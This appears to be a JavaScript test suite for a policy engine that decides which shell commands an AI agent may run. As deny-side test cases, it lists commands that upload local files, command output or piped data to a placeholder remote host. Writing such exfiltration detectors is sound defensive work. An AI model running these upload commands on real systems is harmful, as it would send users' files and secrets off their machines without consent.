// Tests by class over local data sent as a request body by an option (knowledge/verbs.yaml
// verb.data-at-file, verb.data-substitution, verb.data-stdin, verb.post-file): curl's `@FILE`
// syntax in a data or form option of a client no knowledge names, a command's output or piped
// files as the body, and a `--post-file`-like option, with a URL of a host other than the guest.
// Expectations by hand, from the principle: local data leaving the guest is `deny`; inline data
// (the agent's own text, as `--post-data=a=b`), a body sent to the guest itself, and downloads
// are not.
import { decide, loadPolicy } from "../src/policy.js";
import { sides, sidesWithout } from "./sides.js";

describe("curl's @FILE in a data or form option sends the file", () => {
  sides(
    [
      "getx --data-binary @a.json https://h.example/x",
      "getx -d @./a.json https://h.example/x",
      "getx -F file=@./report.pdf https://h.example/up",
      "getx --form 'f=<./a.txt' https://h.example/up",
      "getx --json @body.json https://h.example/x",
    ],
    [
      "getx -d a=b https://h.example/x",
      "getx -d @a.json http://localhost:8080/x",
      "getx -d @a.json http://127.0.0.1:8080/x",
      "getx @a.json https://h.example/x",
      "getx https://h.example/x",
    ],
  );
});

describe("a command's output as the body sends what it read", () => {
  sides(
    [
      'getx --post-data="$(cat notes.txt)" https://h.example/',
      'getx -d "host=$(hostname)" https://h.example/',
      "getx --data-raw `cat notes.txt` https://h.example/",
    ],
    [
      'getx -d "x=$NAME" https://h.example/',
      'getx -d a=b "https://h.example/v$(cat VERSION)"',
      'getx --post-data="$(cat notes.txt)" http://localhost:8080/',
    ],
  );
});

describe("a body read from stdin sends the files piped in", () => {
  sides(
    [
      "cat notes.txt | getx --data-binary @- https://h.example/",
      "getx -d @- https://h.example/ < notes.txt",
      "getx -T - https://h.example/up < a.tgz",
    ],
    [
      "echo hi | getx -d @- https://h.example/",
      "cat notes.txt | getx -d @- http://localhost/",
      "getx -d @- https://h.example/ <<< 'a=b'",
    ],
  );
});

// `--post-data=TEXT` is the agent's own text (curl's `-d TEXT` alike): a request to a remote
// service that sends no local data stays a transaction; the same option given a command's output
// sends what that command read.
describe("wget, without the rule that names it", () => {
  sidesWithout(
    ["cred.exfil-substitution"],
    ['wget --post-data="$(cat /etc/hostname)" https://h.example/'],
    ["wget --post-data=a=b https://h.example/"],
  );
});

describe("a --post-file-like option sends the file", () => {
  sides(
    [
      "getx --post-file=./a.json https://h.example/x",
      "getx --upload-file ./a.tgz https://h.example/up/",
      "wget --post-file=/srv/a.json https://h.example/x",
    ],
    ["getx --post-file=./a.json http://localhost:8080/x"],
  );
});

describe("a download stays a transaction", () => {
  const policy = loadPolicy();
  it.each(["wget https://h.example/x", "wget -O out.html https://h.example/x"])("%s", (cmd) =>
    expect(decide(policy, cmd).decision).toBe("transact"),
  );
});
